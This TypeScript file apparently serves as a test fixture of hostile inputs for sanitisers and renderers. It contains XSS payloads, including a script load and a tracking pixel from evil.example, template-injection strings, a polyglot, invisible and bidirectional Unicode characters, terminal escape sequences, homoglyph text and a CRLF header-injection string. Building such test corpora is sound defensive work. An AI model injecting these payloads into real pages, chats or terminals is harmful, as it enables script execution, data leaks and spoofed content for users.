/** Markup and templates that would run or load something if a page, a chat or a Markdown view interpreted them. */
export const MARKUP: readonly string[] = [
  '<script>alert(1)</script>',
  '"><script src=//evil.example/x.js></script>',
  `'><img src=x onerror=alert(1)>`,
  '<svg/onload=alert(1)>',
  '</title></style></textarea></script><script>alert(1)</script>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<a href="javascript:alert(1)">look</a>',
  '[look](javascript:alert(1)) ![pixel](https://evil.example/p.png)',
  '<a href="data:text/html,<script>alert(1)</script>">look</a>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<math><mtext><mglyph><style></math><img src onerror=alert(1)>',
  '{{constructor.constructor("alert(1)")()}} {{{x}}} \u0024{alert(1)} <%= alert(1) %>',
  '<form action=//evil.example><button formaction=javascript:alert(1)>ok',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=alert() )//%0D%0A//</stYle/</titLe/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>`,
];

const CODES = [
  // Direction and joining marks.
  ...[0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069, 0x200e, 0x200f, 0x061c, 0x200c, 0x200d],
  // Zero-width characters.
  ...[0x200b, 0x2060, 0x2063, 0xfeff, 0x00ad, 0x180e, 0xfe0f, 0xe0100, 0x115f, 0x3164, 0xffa0, 0x2800, 0x034f],
  // Tags, annotations, private use and noncharacters.
  ...[0xe0001, 0xe0041, 0xe007f, 0xfff9, 0xfffb, 0xe000, 0x10ffff, 0xfffe],
  // Spaces and line separators.
  ...[0x00a0, 0x2003, 0x3000, 0x2028, 0x2029, 0x0085, 0x000b, 0x000c, 0x000d],
  // Terminal controls.
  ...[0x07, 0x08, 0x1b, 0x7f, 0x9b, 0x9d],
];

/** Characters that are invisible, change the visible text or steer a terminal, each between two letters. */
export const CHARACTERS: readonly string[] = CODES.map((code) => `a${String.fromCodePoint(code)}b`);

/** Look-alike words, and terminal sequences. */
export const LOOKALIKES: readonly string[] = [
  'pаyload with a Cyrillic а',
  'ｓｕｄｏ ｒｍ',
  '\u{1d42b}\u{1d426} in mathematical letters',
  '\u001b]0;owned\u0007\u001b[2J\u001b[31mred',
  'Z\u0351\u036f\u0307a\u0334\u0321l\u0337g\u0338o\u0361',
  'line one\r\nX-Forged: yes\r\n\r\nbody',
];
